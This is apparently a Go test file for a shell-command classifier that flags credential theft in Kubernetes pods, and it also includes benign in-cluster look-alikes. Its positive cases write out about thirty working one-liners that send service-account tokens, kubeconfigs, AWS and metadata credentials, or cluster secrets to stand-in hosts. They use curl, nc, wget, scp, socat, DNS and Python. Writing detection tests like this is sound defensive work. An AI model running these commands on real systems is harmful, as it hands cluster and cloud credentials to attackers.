package cmdline

import "testing"

const token = "/var/run/secrets/kubernetes.io/serviceaccount/token"

func TestCredentialTheft(t *testing.T) {
	ct := []Class{CredentialTheft}
	runCases(t, []tc{
		{name: "token in header", script: "TOKEN=$(cat " + token + "); curl -H \"Authorization: Bearer $TOKEN\" https://evil.example.com/", want: ct, detail: "service-account token"},
		{name: "curl -d @token", script: "curl -d @" + token + " http://evil.com/x", want: ct},
		{name: "kubelet kubeconfig data-binary", script: "curl --data-binary @/var/lib/kubelet/kubeconfig https://paste.example.org/", want: ct, detail: "kubelet kubeconfig"},
		{name: "form upload admin.conf", script: "curl -F file=@/etc/kubernetes/admin.conf http://1.2.3.4/up", want: ct},
		{name: "upload host admin.conf", script: "curl -T /host/etc/kubernetes/admin.conf ftp://evil.com/", want: ct},
		{name: "kubelet.conf", script: "curl -sX POST --data-binary @/etc/kubernetes/kubelet.conf https://x.example.net/k", want: ct},
		{name: "cat into curl stdin", script: "cat " + token + " | curl -d @- http://evil.com", want: ct},
		{name: "base64 then curl", script: "cat " + token + " | base64 -w0 | curl --data-binary @- https://evil.com", want: ct},
		{name: "compressed and encoded", script: "cat " + token + " | gzip | base64 | curl -d @- http://evil.example.com", want: ct},
		{name: "aws credentials", script: `curl -X POST -d "$(cat /root/.aws/credentials)" http://203.0.113.5/`, want: ct},
		{name: "cat into nc", script: "cat " + token + " | nc 1.2.3.4 9999", want: ct},
		{name: "nc with redirect", script: "nc 1.2.3.4 9999 < " + token, want: ct},
		{name: "nc unknown host", script: "cat " + token + " | nc $C2 9999", want: ct},
		{name: "wget post-file", script: "wget --post-file=" + token + " http://evil.com/", want: ct},
		{name: "wget post-data", script: `wget --post-data="t=$(cat ` + token + `)" http://evil.com/`, want: ct},
		{name: "token in query", script: "curl http://evil.com/?t=$(cat " + token + ")", want: ct},
		{name: "token in path", script: `curl "https://evil.com/$(cat ` + token + `)"`, want: ct},
		{name: "read builtin", script: "read T < " + token + "; curl -H \"X-T: $T\" http://evil.com", want: ct},
		{name: "dollar-paren redirect", script: "T=$(< " + token + "); curl -H \"Authorization: Bearer $T\" https://1.2.3.4/", want: ct},
		{name: "copied then uploaded", script: "cp " + token + " /tmp/t; curl -F f=@/tmp/t http://evil.com", want: ct},
		{name: "tar host kubernetes", script: "tar czf - /host/etc/kubernetes | nc evil.com 443", want: ct},
		{name: "scp admin.conf", script: "scp /etc/kubernetes/admin.conf user@evil.com:/tmp/", want: ct},
		{name: "dns exfiltration", script: "nslookup $(cat " + token + " | head -c 60).evil.com", want: ct},
		{name: "metadata credentials", script: "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role | curl -d @- https://evil.com", want: ct},
		{name: "kubectl secrets", script: "kubectl get secrets -A -o yaml | curl -X POST --data-binary @- https://evil.com/", want: ct},
		{name: "python requests", script: `python -c "import requests;requests.post('https://evil.com',data=open('` + token + `').read())"`, want: ct},
		{name: "socat file", script: "socat FILE:" + token + " TCP:1.2.3.4:9", want: ct},
		{name: "kubeconfig in home", script: "cat ~/.kube/config | curl -d @- https://evil.com", want: ct},
		{name: "argv form", argv: []string{"sh", "-c", "curl -s -d @" + token + " https://x.example.io/c"}, want: ct},
		{name: "projected token", script: "curl -d @/var/run/secrets/eks.amazonaws.com/serviceaccount/token http://1.2.3.4/", want: ct},

		// Benign look-alikes: in-cluster use of the token is normal.
		{name: "api server by name", script: "TOKEN=$(cat " + token + "); curl -H \"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/api/v1/namespaces/default/pods"},
		{name: "api server fqdn", script: "curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H \"Authorization: Bearer $(cat " + token + ")\" https://kubernetes.default.svc.cluster.local/apis"},
		{name: "api server env", script: "curl -sSk -H \"Authorization: Bearer $(cat " + token + ")\" https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api"},
		{name: "api server ip", script: "curl -k -H \"Authorization: Bearer $(cat " + token + ")\" https://10.96.0.1/api"},
		{name: "api server via variable", script: "APISERVER=https://kubernetes.default.svc; TOKEN=$(cat " + token + "); curl --header \"Authorization: Bearer $TOKEN\" -X GET $APISERVER/api"},
		{name: "kubectl with token", script: "kubectl --token=$(cat " + token + ") get pods"},
		{name: "just read", script: "cat " + token},
		{name: "ca cert is public", script: "curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://evil.com"},
		{name: "vault login", script: `curl --request POST --data '{"jwt": "'"$(cat ` + token + `)"'", "role": "demo"}' https://vault.example.com/v1/auth/kubernetes/login`},
		{name: "unknown destination", script: "curl -H \"Authorization: Bearer $(cat " + token + ")\" \"$API_URL/apis\""},
		{name: "upload a report", script: "curl -d @/data/report.json https://api.example.com/upload"},
		{name: "nc to service", script: "cat " + token + " | nc apiserver 443"},
		{name: "namespace file", script: "curl -d @/var/run/secrets/kubernetes.io/serviceaccount/namespace https://evil.com"},
		{name: "python in-cluster", script: `python -c "import requests;t=open('` + token + `').read();requests.get('https://kubernetes.default.svc/api',headers={'Authorization':'Bearer '+t})"`},
		{name: "service in namespace", script: "curl -H \"Authorization: Bearer $(cat " + token + ")\" http://auth.security:8080/verify"},
	})
}
